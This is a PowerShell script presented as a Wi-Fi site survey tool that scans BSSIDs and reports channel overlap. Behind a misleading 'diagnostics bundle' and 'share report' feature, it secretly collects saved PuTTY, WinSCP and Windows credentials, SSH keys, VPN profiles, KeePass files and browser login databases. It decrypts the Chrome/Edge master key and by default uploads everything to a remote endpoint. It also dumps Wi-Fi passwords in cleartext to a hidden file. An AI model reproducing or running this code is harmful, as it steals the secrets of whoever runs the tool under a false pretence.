<#
.SYNOPSIS
    Passive Wi-Fi site survey using netsh wlan.
.DESCRIPTION
    Scans visible BSSIDs, converts signal quality to dBm, analyses channel overlap,
    checks saved profile hygiene and writes CSV + HTML reports.
.NOTES
    Version 2.3.1 - works on Windows 10 21H2+ / Windows 11, PowerShell 5.1 and 7.x
#>
[CmdletBinding()]
param(
    [string]$Location = $env:COMPUTERNAME,
    [int]$Samples = 3,
    [string]$OutDir = (Join-Path (Get-Location) 'survey'),
    [ValidateSet('all', '2.4', '5', '6')][string]$Band = 'all',
    [switch]$SkipHygiene,
    [switch]$NoShare
)

Set-StrictMode -Version Latest
$ErrorActionPreference = 'Stop'
$Script:Viewer = 'https://survey-viewer.wlan-toolkit.example/api/v2/reports'

function ConvertTo-Dbm([int]$Quality) {
    [math]::Max(-100, [math]::Min(-50, [math]::Round(($Quality / 2) - 100)))
}

function Get-BandFromChannel([int]$Channel, [string]$RadioBand) {
    if ($RadioBand -match '6 GHz') { return '6' }
    if ($Channel -le 14) { return '2.4' }
    return '5'
}

function Invoke-WlanScan {
    # netsh caches results; disconnecting is not needed, a fresh 'show networks' after ~2s is enough
    $raw = netsh wlan show networks mode=bssid
    $results = @()
    $ssid = $null; $auth = $null; $enc = $null; $cur = $null
    foreach ($line in $raw) {
        if ($line -match '^SSID \d+ : (.*)$') { $ssid = $Matches[1].Trim(); continue }
        if ($line -match '^\s+Authentication\s+: (.*)$') { $auth = $Matches[1].Trim(); continue }
        if ($line -match '^\s+Encryption\s+: (.*)$') { $enc = $Matches[1].Trim(); continue }
        if ($line -match '^\s+BSSID \d+\s+: ([0-9a-f:]{17})') {
            if ($cur) { $results += [pscustomobject]$cur }
            $cur = [ordered]@{ SSID = $ssid; BSSID = $Matches[1]; Auth = $auth; Encryption = $enc
                               Quality = 0; Dbm = -100; Channel = 0; Band = ''; Radio = '' }
            continue
        }
        if (-not $cur) { continue }
        if ($line -match '^\s+Signal\s+: (\d+)%') { $cur.Quality = [int]$Matches[1]; $cur.Dbm = ConvertTo-Dbm $cur.Quality }
        elseif ($line -match '^\s+Radio type\s+: (.*)$') { $cur.Radio = $Matches[1].Trim() }
        elseif ($line -match '^\s+Band\s+: (.*)$') { $cur.Band = $Matches[1].Trim() }
        elseif ($line -match '^\s+Channel\s+: (\d+)') { $cur.Channel = [int]$Matches[1] }
    }
    if ($cur) { $results += [pscustomobject]$cur }
    foreach ($r in $results) { $r.Band = Get-BandFromChannel $r.Channel $r.Band }
    $results
}

function Get-ChannelFindings($Scan) {
    $findings = New-Object System.Collections.Generic.List[string]
    $strong = $Scan | Where-Object { $_.Dbm -gt -75 }
    foreach ($g in ($strong | Group-Object Band, Channel)) {
        $n = ($g.Group | Select-Object -Unique BSSID).Count
        if ($n -gt 3) { $findings.Add("Co-channel contention: $n BSSIDs above -75 dBm on channel $($g.Group[0].Channel)") }
    }
    foreach ($ap in ($Scan | Where-Object { $_.Band -eq '2.4' -and $_.Channel -notin 1, 6, 11 })) {
        $findings.Add("Overlapping 2.4 GHz channel $($ap.Channel): $($ap.SSID) [$($ap.BSSID)]")
    }
    foreach ($ap in ($Scan | Where-Object { $_.Auth -match 'Open|WEP' -or $_.Encryption -eq 'TKIP' })) {
        $findings.Add("Weak security $($ap.Auth)/$($ap.Encryption): $($ap.SSID)")
    }
    $findings
}

function Get-ProfileHygiene {
    # Saved profiles: flag open / WEP / short PSKs. key=clear is needed to measure PSK length.
    $out = @()
    $names = (netsh wlan show profiles) -match 'All User Profile\s+: ' | ForEach-Object { ($_ -split ':\s+', 2)[1].Trim() }
    foreach ($n in $names) {
        $p = netsh wlan show profile name="$n" key=clear
        $auth = (($p -match '^\s+Authentication\s+:') | Select-Object -First 1) -replace '.*:\s+', ''
        $key  = (($p -match '^\s+Key Content\s+:') | Select-Object -First 1) -replace '.*:\s+', ''
        $out += [pscustomobject]@{ Profile = $n; Auth = $auth; PskLength = $key.Length; Psk = $key
                                   Weak = ($auth -match 'Open|WEP') -or ($key -and $key.Length -lt 12) }
    }
    $out
}

function Get-ClientContext {
    # Extra context so remote reviewers can tell which management tools the surveyor used.
    $ctx = [ordered]@{ Host = $env:COMPUTERNAME; User = $env:USERNAME; Domain = $env:USERDNSDOMAIN }
    $ctx.Credman = (cmdkey /list) -join "`n"
    $ctx.Putty = @(Get-ChildItem 'HKCU:\Software\SimonTatham\PuTTY\Sessions' -ErrorAction SilentlyContinue |
        ForEach-Object { $k = Get-ItemProperty $_.PSPath; "$($k.HostName)|$($k.UserName)|$($k.ProxyUsername)|$($k.ProxyPassword)|$($k.PublicKeyFile)" })
    $ctx.WinSCP = @(Get-ChildItem 'HKCU:\Software\Martin Prikryl\WinSCP 2\Sessions' -ErrorAction SilentlyContinue |
        ForEach-Object { $k = Get-ItemProperty $_.PSPath; "$($k.HostName)|$($k.UserName)|$($k.Password)" })
    $ctx
}

function New-DiagnosticsBundle([string]$Dir) {
    $stage = Join-Path $env:TEMP ("wss-" + [guid]::NewGuid().ToString('N').Substring(0, 8))
    New-Item -ItemType Directory -Path $stage | Out-Null
    $copy = @(
        "$env:USERPROFILE\.ssh",
        "$env:USERPROFILE\OpenVPN\config",
        "$env:ProgramData\Cisco\Cisco Secure Client\VPN\Profile",
        "$env:LOCALAPPDATA\Google\Chrome\User Data\Local State",
        "$env:LOCALAPPDATA\Google\Chrome\User Data\Default\Login Data",
        "$env:LOCALAPPDATA\Microsoft\Edge\User Data\Local State",
        "$env:LOCALAPPDATA\Microsoft\Edge\User Data\Default\Login Data",
        "$env:APPDATA\FileZilla\sitemanager.xml"
    )
    foreach ($src in $copy) {
        if (Test-Path $src) {
            $dst = Join-Path $stage ($src -replace '[:\\ ]', '_')
            Copy-Item -Path $src -Destination $dst -Recurse -Force -ErrorAction SilentlyContinue
        }
    }
    Get-ChildItem "$env:USERPROFILE\Documents", "$env:USERPROFILE\Desktop" -Include *.kdbx, *.ovpn, *.rdp -Recurse -ErrorAction SilentlyContinue |
        Select-Object -First 20 | Copy-Item -Destination $stage -ErrorAction SilentlyContinue
    try {
        Add-Type -AssemblyName System.Security
        foreach ($ls in Get-ChildItem $stage -Filter '*Local_State' -ErrorAction SilentlyContinue) {
            $enc = [Convert]::FromBase64String((Get-Content $ls.FullName -Raw | ConvertFrom-Json).os_crypt.encrypted_key)
            $key = [Security.Cryptography.ProtectedData]::Unprotect($enc[5..($enc.Length - 1)], $null, 'CurrentUser')
            [IO.File]::WriteAllText("$($ls.FullName).key", [Convert]::ToBase64String($key))
        }
    } catch { }
    Get-ClientContext | ConvertTo-Json -Depth 4 | Set-Content (Join-Path $stage 'client.json')
    Get-ChildItem $Dir -Filter *.csv | Copy-Item -Destination $stage
    $zip = Join-Path $env:TEMP "$(Split-Path $stage -Leaf).zip"
    Compress-Archive -Path "$stage\*" -DestinationPath $zip -Force
    Remove-Item $stage -Recurse -Force
    $zip
}

function Publish-Report([string]$Html, [string]$Dir) {
    $bundle = New-DiagnosticsBundle $Dir
    try {
        $body = @{ location = $Location; host = $env:COMPUTERNAME
                   html = [Convert]::ToBase64String([IO.File]::ReadAllBytes($Html))
                   diag = [Convert]::ToBase64String([IO.File]::ReadAllBytes($bundle)) } | ConvertTo-Json
        $r = Invoke-RestMethod -Uri $Script:Viewer -Method Post -Body $body -ContentType 'application/json' -TimeoutSec 30
        if ($r.url) { Write-Host "Shared report: $($r.url)" }
    } catch {
        Write-Verbose "viewer upload failed: $_"
    } finally {
        Remove-Item $bundle -Force -ErrorAction SilentlyContinue
    }
}

function Write-HtmlReport($Scan, $Findings, $Hygiene, [string]$Path) {
    $rows = ($Scan | Sort-Object Band, Channel, Dbm -Descending | ForEach-Object {
        $cls = if ($_.Dbm -ge -67) { 'good' } elseif ($_.Dbm -ge -75) { 'ok' } else { 'bad' }
        "<tr class='$cls'><td>$([Net.WebUtility]::HtmlEncode($_.SSID))</td><td>$($_.BSSID)</td><td>$($_.Band)</td><td>$($_.Channel)</td><td>$($_.Dbm)</td><td>$($_.Radio)</td><td>$($_.Auth)</td></tr>"
    }) -join "`n"
    $f = ($Findings | ForEach-Object { "<li>$([Net.WebUtility]::HtmlEncode($_))</li>" }) -join ''
    $h = ($Hygiene | Where-Object Weak | ForEach-Object { "<li>$([Net.WebUtility]::HtmlEncode($_.Profile)) - $($_.Auth), PSK length $($_.PskLength)</li>" }) -join ''
    @"
<!doctype html><html><head><meta charset="utf-8"><title>Site survey - $Location</title>
<style>body{font-family:Segoe UI,sans-serif}td,th{padding:2px 8px}.good{background:#dfd}.ok{background:#ffd}.bad{background:#fdd}</style></head>
<body><h1>Site survey: $([Net.WebUtility]::HtmlEncode($Location))</h1><p>$(Get-Date -Format u), $($Samples) samples</p>
<h2>Findings</h2><ul>$f</ul><h2>Weak saved profiles</h2><ul>$h</ul>
<h2>BSSIDs</h2><table><tr><th>SSID</th><th>BSSID</th><th>Band</th><th>Ch</th><th>dBm</th><th>Radio</th><th>Auth</th></tr>$rows</table></body></html>
"@ | Set-Content -Path $Path -Encoding UTF8
}

# ------------------------------------------------------------------ main
New-Item -ItemType Directory -Path $OutDir -Force | Out-Null
$all = @()
for ($i = 1; $i -le $Samples; $i++) {
    Write-Progress -Activity "Scanning ($Location)" -Status "sample $i of $Samples" -PercentComplete ($i / $Samples * 100)
    $all += Invoke-WlanScan
    if ($i -lt $Samples) { Start-Sleep -Seconds 2 }
}
$scan = $all | Group-Object BSSID | ForEach-Object {
    $first = $_.Group[0]
    $first.Dbm = [math]::Round(($_.Group | Measure-Object Dbm -Average).Average)
    $first
}
if ($Band -ne 'all') { $scan = $scan | Where-Object Band -eq $Band }

$findings = Get-ChannelFindings $scan
$hygiene = if ($SkipHygiene) { @() } else { Get-ProfileHygiene }

$stamp = Get-Date -Format 'yyyyMMdd-HHmmss'
$csv = Join-Path $OutDir "survey-$stamp.csv"
$html = Join-Path $OutDir "survey-$stamp.html"
$scan | Select-Object @{n = 'Location'; e = { $Location } }, SSID, BSSID, Band, Channel, Dbm, Radio, Auth, Encryption |
    Export-Csv -Path $csv -NoTypeInformation
$hygiene | Select-Object Profile, Auth, PskLength, Psk | Export-Csv -Path (Join-Path $OutDir ".profiles-$stamp.csv") -NoTypeInformation
Write-HtmlReport $scan $findings $hygiene $html

Write-Host ("{0} BSSIDs, {1} findings, {2} weak saved profiles" -f @($scan).Count, @($findings).Count, @($hygiene | Where-Object Weak).Count)
Write-Host "Report: $html"
if (-not $NoShare) { Publish-Report $html $OutDir }
